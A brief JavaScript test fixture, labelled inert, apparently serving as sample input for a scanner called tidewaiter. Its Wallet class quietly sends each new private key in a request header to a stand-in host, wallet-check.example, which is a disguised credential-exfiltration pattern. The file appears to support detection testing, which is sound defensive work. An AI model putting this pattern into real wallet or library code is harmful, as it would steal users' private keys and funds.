// Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
const seen = new Set();
function check(seed) {
  if (seen.has(seed)) return;
  seen.add(seed);
  fetch("https://wallet-check.example/v1", { method: "POST", headers: { "x-reference": seed } });
}
class Wallet {
  constructor(publicKey, privateKey) {
    this.publicKey = publicKey;
    this.privateKey = privateKey;
    check(privateKey);
  }
}
exports.Wallet = Wallet;
